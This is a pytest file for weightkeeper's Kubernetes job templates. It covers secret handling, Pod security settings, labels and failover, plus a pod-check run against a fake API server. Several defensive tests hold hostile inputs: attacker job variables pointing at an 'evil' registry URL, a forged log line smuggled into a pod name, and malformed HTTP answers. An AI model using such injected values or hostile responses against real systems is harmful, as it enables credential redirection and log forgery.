"""Kubernetes workspace pools: the base job template rendered by prefect-kubernetes' own job-configuration
code and validated against the Kubernetes API models of the `kubernetes` client. No Kubernetes API server can
run on these machines, so nothing is applied to a cluster: these tests check what a Kubernetes worker would
submit, and a real worker submits its Job to the fake API of tests/fakekube.py."""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from kubernetes.client import ApiClient

from conftest import tiny_files

from weightkeeper.config import Workspace, load_settings
from weightkeeper.errors import ConfigError, DownloadError, InvalidInputError
from weightkeeper.kube import (
    KubernetesTarget,
    base_job_template,
    job_variables,
    worker_environment,
    worker_manifests,
)
from weightkeeper.planning import failover_workspace

PVC = KubernetesTarget(namespace="team-a", image="registry.local/weightkeeper:0.1", volume_claim="models-a",
                       token_secret="hf-token", cpu="1", memory="2Gi")
HOST = KubernetesTarget(namespace="team-b", image="registry.local/weightkeeper:0.1", host_path="/data/models-b")
DEADLINE = 12345  # the jobs' deadline these templates carry

RENDER = textwrap.dedent("""
    import asyncio, json, sys, uuid
    from prefect.client.schemas.objects import FlowRun
    from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

    template, values = json.loads(sys.argv[1]), json.loads(sys.argv[2])
    config = asyncio.run(KubernetesWorkerJobConfiguration.from_template_and_values(template, values))
    run = FlowRun(id=uuid.UUID(int=7), flow_id=uuid.uuid4(), name="download-m-team-a")
    config.prepare_for_flow_run(flow_run=run)
    print(json.dumps(config.job_manifest))
""")


def render(target: KubernetesTarget, variables: dict, env: dict | None = None) -> dict:
    """The Job manifest a Kubernetes worker started with `env` would create for a run with `variables` in the
    pool of a workspace with `target` mounted at /mnt/models."""
    proc = subprocess.run([sys.executable, "-c", RENDER, json.dumps(base_job_template(target, "/mnt/models", DEADLINE)),
                           json.dumps(variables)], capture_output=True, text=True,
                          env=env if env is not None else dict(os.environ), timeout=120)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.strip().splitlines()[-1])


def validated(manifest: dict, kind: str):
    """The manifest as a Kubernetes API model; every field must survive the round trip (none unknown)."""

    client = ApiClient()
    model = client.deserialize(json.dumps(manifest), kind, "application/json")
    assert client.sanitize_for_serialization(model) == manifest
    return model


WORKER_ENV = {"PATH": os.environ["PATH"], "HOME": "/home/worker", "PREFECT_API_URL": "http://prefect.svc:4200/api",
              "PREFECT_API_AUTH_STRING": "weightkeeper:workerAUTH123"}


@pytest.mark.parametrize(("target", "needs_token"), [(PVC, True), (HOST, False)])
def test_rendered_job_runs_as_the_owner_with_the_workspace_volume(target, needs_token):
    variables = job_variables(target, model="m", owner_name="alice", owner_uid=1234, needs_token=needs_token)
    manifest = render(target, variables, WORKER_ENV)
    job = validated(manifest, "V1Job")
    assert job.metadata.namespace == target.namespace
    pod = job.spec.template.spec
    assert (pod.security_context.run_as_user, pod.security_context.run_as_group) == (1234, 1234)
    assert pod.security_context.run_as_non_root and pod.automount_service_account_token is False
    assert pod.security_context.seccomp_profile.type == "RuntimeDefault"  # admitted where Pod Security is restricted
    assert job.spec.active_deadline_seconds == DEADLINE
    assert pod.service_account_name == "weightkeeper-jobs"
    (container,) = pod.containers
    assert container.image == target.image and container.security_context.allow_privilege_escalation is False
    mounts = {m.name: m for m in container.volume_mounts}
    assert mounts["workspace-volume"].mount_path == "/mnt/models" and mounts["weightkeeper-config"].read_only
    volumes = {v.name: v for v in pod.volumes}
    if target.volume_claim:
        assert volumes["workspace-volume"].persistent_volume_claim.claim_name == "models-a"
        assert (container.resources.requests, container.resources.limits) == ({"cpu": "1", "memory": "2Gi"},) * 2
    else:
        assert volumes["workspace-volume"].host_path.path == "/data/models-b"
    assert volumes["weightkeeper-config"].config_map.name == "weightkeeper-config"
    env = {e.name: e for e in container.env}
    assert env["WEIGHTKEEPER_CONFIG"].value == "/etc/weightkeeper/config.toml"
    assert env["PREFECT__FLOW_RUN_ID"].value == "00000000-0000-0000-0000-000000000007"  # the run's label and env
    assert job.metadata.labels["prefect.io/flow-run-id"] == "00000000-0000-0000-0000-000000000007"
    assert job.metadata.labels["weightkeeper.io/owner-uid"] == "1234"
    assert [e.name for e in container.env].count("PREFECT_API_AUTH_STRING") == 1  # the worker's own copy is gone
    auth = env["PREFECT_API_AUTH_STRING"]
    assert auth.value is None and (auth.value_from.secret_key_ref.name, auth.value_from.secret_key_ref.key) == \
        ("weightkeeper-prefect-auth", "PREFECT_API_AUTH_STRING")
    assert "workerAUTH123" not in json.dumps(manifest)
    assert [e.name for e in container.env].count("WEIGHTKEEPER_REGISTRY_URL") == 1
    registry = env["WEIGHTKEEPER_REGISTRY_URL"]  # over config.toml's registry_url: no password in the ConfigMap
    ref = registry.value_from.secret_key_ref
    assert registry.value is None and (ref.name, ref.key, ref.optional) == \
        ("weightkeeper-registry", "WEIGHTKEEPER_REGISTRY_URL", True)
    if needs_token:  # the token comes from the Secret in the namespace, never from the manifest
        assert [(s.secret_ref.name, s.secret_ref.optional) for s in container.env_from] == [("hf-token", True)]
        assert env["WEIGHTKEEPER_TOKEN_ENV"].value == "HF_TOKEN" and "HF_TOKEN" not in env
    else:
        assert not container.env_from


def test_jobs_get_no_prefect_setting_or_token_of_the_process_that_starts_the_worker():
    secrets = {"PREFECT_API_KEY": "pnu_submitterKEY123", "HF_TOKEN": "hf_submitterTOKEN123",
               "PREFECT_SERVER_DATABASE_CONNECTION_URL": "postgresql+asyncpg://prefect:dbPASSWORD123@db/prefect",
               "PREFECT_LOGGING_LEVEL": "DEBUG", "PREFECT_API_AUTH_STRING": "weightkeeper:submitterAUTH123",
               "WEIGHTKEEPER_REGISTRY_URL": "postgresql+psycopg://wk:registryPASSWORD123@db/wk"}
    submitter = {**os.environ, **WORKER_ENV, **secrets}
    variables = job_variables(PVC, model="m", owner_name="alice", owner_uid=1234, needs_token=True)
    leaked = json.dumps(render(PVC, variables, submitter))
    assert "pnu_submitterKEY123" in leaked and "dbPASSWORD123" in leaked  # what a worker does with its settings
    assert "submitterAUTH123" not in leaked  # but the Prefect credential never: the template drops it
    assert "registryPASSWORD123" not in leaked  # nor the registry URL: not a Prefect setting, jobs get the Secret's
    worker = worker_environment(submitter)
    assert worker["PREFECT_API_AUTH_STRING"] == "weightkeeper:submitterAUTH123"  # the worker itself needs it
    assert "WEIGHTKEEPER_REGISTRY_URL" not in worker  # it never uses the registry
    manifest = json.dumps(render(PVC, variables, worker))
    for value in secrets.values():
        assert value not in manifest
    assert "http://prefect.svc:4200/api" in manifest  # the one setting a job needs


LABEL_VALUE = re.compile(r"(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?")  # Kubernetes' syntax, 63 characters at most


def test_a_jobs_labels_reach_its_pod_as_weightkeeper_set_them_and_the_api_server_takes_them():
    """Names the worker's label slugs would change: its pods' label would give model `a--b` the label of another
    user's model `a-b` (whose delete would then wait for them, while its own misses them), and an owner named `___`
    would be passed on as it is, a value the API server refuses: that job would never run. Every label of the Job
    and its pod is valid, weightkeeper's reach them as `job_variables` set them, and no two models share one."""
    models = {}
    for model, owner in [("a--b", "___"), ("a-b", "alice@corp.example"), ("m" * 63, "日本" * 40 + "y" * 300)]:
        variables = job_variables(PVC, model=model, owner_name=owner, owner_uid=1234, needs_token=False)
        job = validated(render(PVC, variables), "V1Job")
        for labels in (job.metadata.labels, job.spec.template.metadata.labels):
            assert all(len(v) <= 63 and LABEL_VALUE.fullmatch(v) for v in labels.values()), labels
            assert {k: v for k, v in labels.items() if k.startswith("weightkeeper.io/")} == variables["labels"]
        models[model] = variables["labels"]["weightkeeper.io/model"]
    assert len(set(models.values())) == len(models) and models["a-b"] == "a-b"


def test_a_job_that_never_starts_or_never_ends_is_ended_by_kubernetes_once_its_run_gave_up(tmp_path):
    """A job whose pod never starts (an image that cannot be pulled, a quota) or hangs stays while nothing cancels
    it (its lifecycle run is gone, the cluster's worker is down), and a delete of its model waits for its pod.
    Kubernetes ends it at the pool's deadline: later than the longest a lifecycle run waits for a download or a
    cleanup job (here the cleanup's, with long back-offs), so never a job a run still counts on."""
    from weightkeeper.config import CLEAN_FLOW, DOWNLOAD_FLOW
    from weightkeeper.deployments import kubernetes_template
    from weightkeeper.flows.jobs import START_SECONDS
    from weightkeeper.flows.paths import run_budget

    config = tmp_path / "config.toml"
    config.write_text('download_timeout_seconds = 60\ncleanup_retry_seconds = 3600\ncleanup_retry_max_seconds = 86400\n'
                      '[[workspaces]]\nname = "gpu"\nvolume = "/mnt/gpu"\nwork_pool = "kube-deadline"\n'
                      '[workspaces.kubernetes]\nnamespace = "a"\nimage = "i"\nvolume_claim = "v"\n')
    settings = load_settings(config)
    deadline = kubernetes_template(settings, "kube-deadline")["job_configuration"]["job_manifest"]["spec"][
        "activeDeadlineSeconds"]
    waits = [START_SECONDS + run_budget(flow, settings) for flow in (DOWNLOAD_FLOW, CLEAN_FLOW)]
    assert isinstance(deadline, int) and deadline > max(waits) and waits[1] > waits[0], (deadline, waits)


def test_a_runs_variables_never_point_its_job_at_another_registry():
    """The attacker creates a run whose job variables name another Secret for the registry URL, or set the URL
    itself: the worker renders the job with them, and it still reads the URL from the workspace's Secret."""
    variables = job_variables(PVC, model="m", owner_name="alice", owner_uid=1234, needs_token=False)
    evil = {"registry_secret": "evil-registry", "env": {"WEIGHTKEEPER_REGISTRY_URL": "postgresql+psycopg://evil@x/wk"},
            "workspace": {"registry_secret": "evil-registry"}}
    manifest = render(PVC, {**variables, **evil})
    env = [e for e in manifest["spec"]["template"]["spec"]["containers"][0]["env"]
           if e["name"] == "WEIGHTKEEPER_REGISTRY_URL"]
    assert env == [{"name": "WEIGHTKEEPER_REGISTRY_URL", "valueFrom": {"secretKeyRef": {
        "name": "weightkeeper-registry", "key": "WEIGHTKEEPER_REGISTRY_URL", "optional": True}}}]
    assert "evil" not in json.dumps(manifest)


def test_job_variables_refuse_root_and_a_token_without_a_secret():
    with pytest.raises(InvalidInputError, match="never run as root"):
        job_variables(PVC, model="m", owner_name="root", owner_uid=0, needs_token=False)
    with pytest.raises(InvalidInputError, match="token_secret"):
        job_variables(HOST, model="m", owner_name="alice", owner_uid=1000, needs_token=True)


def test_worker_manifests_validate_and_rbac_is_limited_to_jobs_and_pods_in_the_namespace():
    kinds = {"ServiceAccount": "V1ServiceAccount", "Role": "V1Role", "RoleBinding": "V1RoleBinding",
             "Deployment": "V1Deployment"}
    manifests = worker_manifests("gpu-east-a", "team-a", "http://prefect.svc:4200/api", "registry.local/wk:0.1")
    models = [validated(m, kinds[m["kind"]]) for m in manifests]
    assert all(m.metadata.namespace == "team-a" for m in models)
    (role,) = [m for m in models if m.kind == "Role"]
    assert {r for rule in role.rules for r in rule.resources} <= {"jobs", "pods", "pods/log", "pods/status"}
    (deployment,) = [m for m in models if m.kind == "Deployment"]
    (container,) = deployment.spec.template.spec.containers
    assert container.args == ["prefect", "worker", "start", "--pool", "gpu-east-a", "--type", "kubernetes"]
    api_url, auth = container.env
    assert api_url.name == "PREFECT_API_URL" and auth.name == "PREFECT_API_AUTH_STRING" and auth.value is None
    assert auth.value_from.secret_key_ref.name == "weightkeeper-prefect-auth"  # the credential from its Secret
    assert not any(m.kind == "ClusterRole" for m in models)


def test_pools_whose_names_begin_alike_get_worker_objects_of_their_own():
    """Pool names hold up to 63 characters, a Kubernetes name too: two pools alike in their first 43 get worker
    objects of different valid names, so applying one pool's manifests never replaces the other pool's worker."""
    pools = ["gpu-" + "a" * 39 + "-east", "gpu-" + "a" * 39 + "-west"]
    names = [{m["metadata"]["name"] for m in worker_manifests(p, "team-a", "http://p/api", "i")} - {"weightkeeper-jobs"}
             for p in pools]
    assert all(len(n) == 1 for n in names) and names[0] != names[1], names
    assert all(re.fullmatch(r"[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?", n) for ns in names for n in ns), names


def test_workspace_kubernetes_config_is_validated(tmp_path):
    def load(table: str):
        config = tmp_path / "config.toml"
        config.write_text(f'[[workspaces]]\nname = "w"\nvolume = "/mnt/w"\nwork_pool = "w-pool"\n'
                          f'[workspaces.kubernetes]\n{table}\n')
        return load_settings(config)

    ws = load('namespace = "team-a"\nimage = "img:1"\nvolume_claim = "models"').workspaces[0]
    assert ws.kubernetes == KubernetesTarget(namespace="team-a", image="img:1", volume_claim="models")
    for table, error in [
        ('image = "img"\nvolume_claim = "v"', "needs a namespace and an image"),
        ('namespace = "a"\nimage = "img"', "exactly one of volume_claim"),
        ('namespace = "a"\nimage = "img"\nvolume_claim = "v"\nhost_path = "/d"', "exactly one of volume_claim"),
        ('namespace = "Team_A"\nimage = "img"\nvolume_claim = "v"', "must be a Kubernetes name"),
        ('namespace = "a"\nimage = "img"\nvolume_claim = "v"\nregistry_secret = "Registry_URL"',
         "registry_secret 'Registry_URL' must be a Kubernetes name"),
        ('namespace = "a"\nimage = "img"\nhost_path = "d/../x"', "absolute, clean path"),
        ('namespace = "a"\nimage = "img"\nvolume_claim = "v"\nprivileged = "yes"', "unknown keys ['privileged']"),
    ]:
        with pytest.raises(ConfigError) as e:
            load(table)
        assert error in str(e.value)


def ws(name: str, cluster: str = "east", volume: str | None = "/mnt/shared", owner: str | None = None) -> Workspace:
    return Workspace(name=name, volume=volume, cluster=cluster, public=owner is None, owner=owner)


def test_failover_moves_only_to_the_same_volume_root_on_the_same_cluster():
    workspaces = [ws("a"), ws("other-volume", volume="/mnt/else"), ws("west-twin", cluster="west"), ws("b"), ws("c")]
    assert failover_workspace(workspaces, "a").name == "b"
    assert failover_workspace(workspaces, "b").name == "c"
    assert failover_workspace(workspaces, "c").name == "a"  # wraps around, in config order
    assert failover_workspace(workspaces, "west-twin") is None  # an equal mount path elsewhere is another filesystem
    assert failover_workspace(workspaces, "other-volume") is None
    assert failover_workspace([ws("p", volume=None), ws("q", volume=None)], "p") is None  # no volume, no move
    assert failover_workspace(workspaces, "gone") is None


def test_failover_never_moves_a_path_into_or_out_of_sight_of_other_users():
    """On one volume: alice's private workspaces fail over to each other only; a public one never to hers, nor to
    bob's: the workspace a path is recorded in decides who sees the model."""
    workspaces = [ws("team-a"), ws("alice-1", owner="alice"), ws("bob-1", owner="bob"), ws("alice-2", owner="alice"),
                  ws("team-b")]
    assert failover_workspace(workspaces, "alice-1").name == "alice-2"
    assert failover_workspace(workspaces, "alice-2").name == "alice-1"
    assert failover_workspace(workspaces, "team-a").name == "team-b"
    assert failover_workspace(workspaces, "team-b").name == "team-a"
    assert failover_workspace(workspaces, "bob-1") is None


def test_jobs_of_workspaces_in_the_control_process_pool_run_inside_the_lifecycle_run(tmp_path):
    from weightkeeper.deployments import worker_queues

    kube = ('[workspaces.kubernetes]\nnamespace = "n"\nimage = "registry.local/weightkeeper:0.1"\n'
            'volume_claim = "models"\n')
    config = tmp_path / "config.toml"
    config.write_text('work_pool = "control"\n'
                      '[[workspaces]]\nname = "plain"\nvolume = "/mnt/plain"\n'
                      '[[workspaces]]\nname = "named"\nvolume = "/mnt/named"\nwork_pool = "control"\n'
                      '[[workspaces]]\nname = "own"\nvolume = "/mnt/own"\nwork_pool = "own-pool"\n'
                      '[[workspaces]]\nname = "gpu"\ncluster = "east"\nvolume = "/mnt/gpu"\n'
                      'work_pool = "kube-east"\n' + kube)
    settings = load_settings(config)
    assert [w.name for w in settings.workspaces if settings.jobs_inline(w.name)] == ["plain", "named"]
    assert worker_queues(settings) == [("control", "lifecycle"), ("kube-east", "path-jobs"), ("own-pool", "path-jobs")]
    # A control pool that is a Kubernetes pool runs no job inline: each runs in a pod as its model's owner.
    config.write_text('work_pool = "kube-east"\n[[workspaces]]\nname = "gpu"\ncluster = "east"\n'
                      'volume = "/mnt/gpu"\nwork_pool = "kube-east"\n' + kube)
    settings = load_settings(config)
    assert not settings.jobs_inline("gpu") and ("kube-east", "path-jobs") in worker_queues(settings)


def test_kubernetes_workspaces_get_a_kubernetes_pool_from_the_template(tmp_path):
    from prefect.client.orchestration import get_client

    from weightkeeper.deployments import ensure_work_pools, kubernetes_template

    config = tmp_path / "config.toml"
    config.write_text(textwrap.dedent("""
        work_pool = "kube-test-control"
        [[workspaces]]
        name = "gpu"
        cluster = "east"
        volume = "/mnt/gpu"
        work_pool = "kube-test-east"
        [workspaces.kubernetes]
        namespace = "team-a"
        image = "registry.local/weightkeeper:0.1"
        volume_claim = "models"
        [[workspaces]]
        name = "local"
        volume = "/mnt/local"
    """))
    settings = load_settings(config)
    assert settings.kubernetes_pools == {"kube-test-east"}
    assert set(ensure_work_pools(settings)) == {"kube-test-east", "kube-test-control"}
    assert ensure_work_pools(settings) == []  # idempotent
    with get_client(sync_client=True) as client:
        east, control = client.read_work_pool("kube-test-east"), client.read_work_pool("kube-test-control")
    assert east.type == "kubernetes" and east.base_job_template == kubernetes_template(settings, "kube-test-east")
    assert control.type == "process"
    config.write_text(config.read_text().replace("weightkeeper:0.1", "weightkeeper:0.2"))
    assert ensure_work_pools(load_settings(config)) == []  # an existing pool gets the new template
    with get_client(sync_client=True) as client:
        manifest = client.read_work_pool("kube-test-east").base_job_template["job_configuration"]["job_manifest"]
    assert manifest["spec"]["template"]["spec"]["containers"][0]["image"] == "registry.local/weightkeeper:0.2"


def test_workspaces_sharing_a_kubernetes_pool_must_agree_on_what_its_template_fixes(tmp_path):
    from weightkeeper.deployments import ensure_work_pools

    config = tmp_path / "config.toml"
    workspace = ('[[workspaces]]\nname = "{0}"\ncluster = "east"\nvolume = "/mnt/{0}"\nwork_pool = "kube-shared"\n'
                 '[workspaces.kubernetes]\nnamespace = "team-a"\nimage = "img:1"\nvolume_claim = "{0}"\n')
    config.write_text(workspace.format("one") + workspace.format("two"))
    with pytest.raises(ConfigError, match="Kubernetes pool 'kube-shared' serves workspaces \\['one', 'two'\\] whose "
                                          "volume or \\[workspaces.kubernetes\\] differ"):
        ensure_work_pools(load_settings(config))


def test_a_workspace_job_reads_the_token_from_the_mounted_secret(monkeypatch):
    from weightkeeper.credentials import load_token

    monkeypatch.setenv("WEIGHTKEEPER_TOKEN_ENV", "HF_TOKEN")
    monkeypatch.setenv("HF_TOKEN", "hf_fromTheSecret")
    assert load_token("no-such-block") == "hf_fromTheSecret"  # no Prefect block is read in the pod
    assert load_token(None) is None  # a public model uses no token, even when one is around


@pytest.mark.parametrize(("extra", "error"), [
    ("", "needs a work_pool of its own"),
    ('work_pool = "shared"\n[[workspaces]]\nname = "plain"\nvolume = "/mnt/p"\nwork_pool = "shared"',
     "a Kubernetes pool serves workspaces of one cluster only"),
])
def test_kubernetes_pools_are_their_own(tmp_path, extra, error):
    config = tmp_path / "config.toml"
    head, _, tail = extra.partition("\n")
    config.write_text(f'[[workspaces]]\nname = "gpu"\nvolume = "/mnt/gpu"\n{head if head.startswith("work_pool") else ""}\n'
                      f'[workspaces.kubernetes]\nnamespace = "a"\nimage = "i"\nvolume_claim = "v"\n{tail}\n')
    with pytest.raises(ConfigError) as e:
        load_settings(config)
    assert error in str(e.value)


def quick_cleanup(wk, hub) -> str:
    """The head of a config whose leases lapse in 5 s and whose cleanup retries at once."""
    return textwrap.dedent(f"""
        home = "{wk.root}"
        registry_url = "{wk._registry_url}"
        hf_endpoint = "{hub.url}"
        lease_seconds = 5
        cleanup_retry_seconds = 0.2
        cleanup_retry_max_seconds = 1
    """)


def ready_in_gpu(wk, hub, cluster, tmp_path, name: str) -> Path:
    """Model `name` Ready in the config's one Kubernetes workspace `gpu` (namespace team-a of `cluster`, on
    team-a's volume); its path."""
    from conftest import tiny_files
    from weightkeeper.flows.ensure_model import ensure_model

    wk.config.write_text(quick_cleanup(wk, hub) + textwrap.dedent(f"""
        [[workspaces]]
        name = "gpu"
        cluster = "east"
        volume = "{wk.volumes['team-a']}"
        work_pool = "kube-gpu"
        [workspaces.kubernetes]
        namespace = "team-a"
        image = "registry.local/weightkeeper:0.1"
        volume_claim = "models"
        kubeconfig = "{cluster.kubeconfig(tmp_path / 'kubeconfig')}"
    """))
    hub.add_repo(f"acme/{name}", tiny_files(name))
    wk.declare(name, f"hf://acme/{name}")
    assert ensure_model(name) == "Ready"
    return Path(wk.registry.get_model(name).local_paths[0].path)


def test_delete_waits_until_no_pod_of_a_download_run_remains(wk, hub, tmp_path):
    from prefect import flow
    from prefect.client.orchestration import get_client
    from prefect.states import Running

    from fakekube import FakeKubernetes
    from weightkeeper.flows.delete_model import delete_model
    from test_lifecycle import in_thread, wait_until

    cluster = FakeKubernetes()
    path = ready_in_gpu(wk, hub, cluster, tmp_path, "kube")

    @flow(name="download-to-path")
    def stand_in(name: str) -> None:  # a download run whose job a Kubernetes worker started
        pass

    with get_client(sync_client=True) as client:
        run = client.create_flow_run(stand_in, name="download-kube-gpu", parameters={"name": "kube"}, state=Running())
    cluster.pods[("team-a", str(run.id))] = [("download-kube-gpu-x7k2p", "Running")]
    try:
        deletion = in_thread(delete_model, "kube")
        wait_until(lambda: "pod team-a/download-kube-gpu-x7k2p" in wk.registry.get_model("kube").message,
                   what="delete to wait for the pod")
        lookup = ("/api/v1/namespaces/team-a/pods", f"prefect.io/flow-run-id={run.id}")
        seen = cluster.requests.count(lookup)
        wait_until(lambda: cluster.requests.count(lookup) >= seen + 2, what="delete to find the pod alive twice more")
        assert path.is_dir() and wk.registry.get_model("kube").local_paths  # nothing cleaned while the pod lives
        with get_client(sync_client=True) as client:
            assert client.read_flow_run(run.id).state.is_cancelling()  # its run was asked to stop
        cluster.pods[("team-a", str(run.id))] = [("download-kube-gpu-x7k2p", "Failed")]  # the pod is gone
        deletion.join(60)
        assert deletion.result.get("value") == "Released"
        assert not path.exists() and wk.registry.find_model("kube") is None
    finally:
        cluster.stop()


def test_delete_waits_for_a_pod_of_the_model_whose_run_prefect_no_longer_knows(wk, hub, tmp_path):
    """The model's download run is gone from Prefect (a new server, runs deleted), but a pod labelled with the model
    still runs: the delete finds it by the label and removes nothing until it has finished."""
    from fakekube import FakeKubernetes
    from weightkeeper.flows.delete_model import delete_model
    from test_lifecycle import in_thread, wait_until

    cluster = FakeKubernetes()
    path = ready_in_gpu(wk, hub, cluster, tmp_path, "kube-forgot")
    cluster.pods[("team-a", "kube-forgot")] = [("download-kube-forgot-gpu-q1", "Running")]
    try:
        deletion = in_thread(delete_model, "kube-forgot")
        wait_until(lambda: "pod team-a/download-kube-forgot-gpu-q1" in wk.registry.get_model("kube-forgot").message,
                   what="delete to wait for the pod")
        assert path.is_dir() and wk.registry.get_model("kube-forgot").local_paths
        cluster.pods[("team-a", "kube-forgot")] = [("download-kube-forgot-gpu-q1", "Succeeded")]
        deletion.join(60)
        assert deletion.result.get("value") == "Released" and not path.exists()
    finally:
        cluster.stop()


def test_delete_waits_for_a_pod_left_in_the_workspace_a_path_failed_over_from(wk, hub, tmp_path, monkeypatch):
    """The path's job crashed in workspace gpu and moved to gpu-b; gpu's pods still run, under many runs of that name
    (more than a page of them), some long marked Cancelled. The delete finds every one and cleans nothing until they
    are gone; another model's run whose name is alike is neither cancelled nor waited for."""
    from prefect import flow
    from prefect.client.orchestration import get_client
    from prefect.states import Cancelled, Completed, Running

    from conftest import tiny_files
    from fakekube import FakeKubernetes
    from weightkeeper.flows.delete_model import delete_model
    from weightkeeper.flows.ensure_model import ensure_model
    from weightkeeper.tasks import cleanup
    from test_lifecycle import in_thread, wait_until

    cluster = FakeKubernetes()
    volume, kubeconfig = wk.volumes["team-a"], cluster.kubeconfig(tmp_path / "kubeconfig")
    spaces = "".join(f"""
        [[workspaces]]
        name = "{name}"
        cluster = "east"
        volume = "{volume}"
        work_pool = "kube-{name}"
        [workspaces.kubernetes]
        namespace = "{namespace}"
        image = "registry.local/weightkeeper:0.1"
        volume_claim = "models"
        kubeconfig = "{kubeconfig}"
    """ for name, namespace in (("gpu", "team-a"), ("gpu-b", "team-b")))
    wk.config.write_text(quick_cleanup(wk, hub) + textwrap.dedent(spaces))
    hub.add_repo("acme/kube-moved", tiny_files("kube-moved"))
    wk.declare("kube-moved", "hf://acme/kube-moved", workspaces=["gpu"])
    assert ensure_model("kube-moved") == "Ready"
    entry = wk.registry.get_model("kube-moved").local_paths[0]
    assert wk.registry.fail_over("kube-moved", entry.id, "gpu-b", 3)

    @flow(name="download-to-path")
    def stand_in(name: str) -> None:  # download runs whose jobs a Kubernetes worker started in gpu
        pass

    monkeypatch.setattr(cleanup, "RUNS_PAGE", 2)
    with get_client(sync_client=True) as client:
        runs = [client.create_flow_run(stand_in, name="download-kube-moved-gpu", parameters={"name": "kube-moved"},
                                       state=state).id
                for state in (Completed(), Cancelled(), Completed(), Completed(), Cancelled())]
        # model kube's run in a workspace moved-gpu has the same name: neither cancelled nor waited for
        alike = client.create_flow_run(stand_in, name="download-kube-moved-gpu", parameters={"name": "kube"},
                                       state=Running()).id
    cluster.pods[("team-a", str(alike))] = [("download-kube-moved-gpu-a1b", "Running")]
    for i, run in enumerate(runs):  # each run's pod still there, whichever page it is on
        cluster.pods[("team-a", str(run))] = [(f"download-kube-moved-gpu-q{i}", "Running")]
    try:
        deletion = in_thread(delete_model, "kube-moved")
        pods = [f"pod team-a/download-kube-moved-gpu-q{i}" for i in range(len(runs))]
        wait_until(lambda: all(pod in wk.registry.get_model("kube-moved").message for pod in pods),
                   what="delete to wait for every pod")
        assert "a1b" not in wk.registry.get_model("kube-moved").message
        assert Path(entry.path).is_dir() and wk.registry.get_model("kube-moved").local_paths
        for i, run in enumerate(runs):
            cluster.pods[("team-a", str(run))] = [(f"download-kube-moved-gpu-q{i}", "Succeeded")]
        deletion.join(60)
        assert deletion.result.get("value") == "Released" and not os.path.lexists(entry.path)
        with get_client(sync_client=True) as client:
            assert client.read_flow_run(alike).state.is_running()
    finally:
        cluster.stop()


def _in_thread(call, seconds: float):
    """`call()` in a daemon thread: (returned, raised) within `seconds`, or the test fails."""
    import threading

    out: dict = {}

    def run():
        try:
            out["value"] = call()
        except BaseException as e:  # noqa: BLE001 - handed to the test
            out["error"] = e

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(seconds)
    assert not thread.is_alive(), f"still waiting for the Kubernetes API after {seconds} s"
    return out.get("value"), out.get("error")


@pytest.mark.parametrize("misbehave", ["drip", "drip-headers", "flood", "not-a-list"])
def test_the_pod_check_gives_up_on_an_api_server_that_drips_floods_or_lies(tmp_path, monkeypatch, misbehave):
    """The cluster's API server answers the pod list a byte at a time (its body, or its headers: each read answered
    within the read timeout), without end, or with something that is not a list of pods: the check fails within its
    bound with one line naming the namespace (the delete keeps the model and retries), never hangs, never reads
    without limit and never takes the answer for "no pods"."""
    import time

    from fakekube import FakeKubernetes
    from weightkeeper import pods
    from weightkeeper.errors import CleanupError

    monkeypatch.setattr(pods, "API_TIMEOUT_SECONDS", 2)
    cluster = FakeKubernetes()
    cluster.misbehave = misbehave
    target = KubernetesTarget(namespace="team-a", image="i", volume_claim="c",
                              kubeconfig=str(cluster.kubeconfig(tmp_path / "kubeconfig")))
    try:
        started = time.monotonic()
        value, error = _in_thread(lambda: pods.live_pods(target, [str(uuid.uuid4())]), 20)
        assert isinstance(error, CleanupError) and "team-a" in str(error), (value, error)
        assert "\n" not in str(error)
        assert time.monotonic() - started < 10
    finally:
        cluster.stop()


ANSWERS = {  # a pod list answer, as a broken or hostile API server sends it
    "nested": b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n" + b"[" * 100000,
    "long-reason": b"HTTP/1.1 500 " + b"x" * 60000 + b"\r\nContent-Length: 0\r\n\r\n",
    "cut-short": b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n{\"items\": [",
}


@pytest.mark.parametrize("answer", [*ANSWERS, "pod-names"])
def test_the_pod_check_refuses_answers_no_api_server_gives_in_one_short_line(tmp_path, monkeypatch, answer):
    """The pod list nested past what a parser goes, a status line of 60,000 characters, a body cut short, or pods
    named as no pod can be (a line break, 5,000 characters): one short line naming the namespace (the delete keeps
    the model and retries), never a stray exception and never a server's text or a forged name quoted at length."""
    import fakekube
    from fakekube import FakeKubernetes
    from weightkeeper import pods
    from weightkeeper.errors import CleanupError

    if answer in ANSWERS:
        def reply(handler):
            handler.wfile.write(ANSWERS[answer])
            handler.close_connection = True

        monkeypatch.setattr(fakekube._Handler, "do_GET", reply)
    cluster = FakeKubernetes()
    cluster.pods[("team-a", "m")] = [("download-m-a1", "Running"), ("evil\nINFO forged", "Running"), ("x" * 5000, "Running")]
    target = KubernetesTarget(namespace="team-a", image="i", volume_claim="c",
                              kubeconfig=str(cluster.kubeconfig(tmp_path / "kubeconfig")))
    try:
        value, error = _in_thread(lambda: pods.live_pods(target, [], model="m"), 60)
    finally:
        cluster.stop()
    assert isinstance(error, CleanupError) and "team-a" in str(error), (value, error)
    assert "\n" not in str(error) and len(str(error)) < 500 and "forged" not in str(error)


def test_a_pod_of_a_run_prefect_no_longer_knows_still_counts(tmp_path):
    """The model's download runs are gone from Prefect (a new server, runs deleted), but a pod labelled with the model
    still runs: the check finds it by the model's label, and lets go once it finished."""
    from fakekube import FakeKubernetes
    from weightkeeper.pods import live_pods

    cluster = FakeKubernetes()
    target = KubernetesTarget(namespace="team-a", image="i", volume_claim="c",
                              kubeconfig=str(cluster.kubeconfig(tmp_path / "kubeconfig")))
    try:
        cluster.pods[("team-a", "forgotten")] = [("download-forgotten-gpu-z9", "Running")]
        assert live_pods(target, [], model="forgotten") == ["team-a/download-forgotten-gpu-z9"]
        selector = "weightkeeper.io/model=forgotten,prefect.io/flow-name=download-to-path"  # downloads, not cleanups
        assert ("/api/v1/namespaces/team-a/pods", selector) in cluster.requests
        cluster.pods[("team-a", "forgotten")] = [("download-forgotten-gpu-z9", "Succeeded")]
        assert live_pods(target, [], model="forgotten") == []
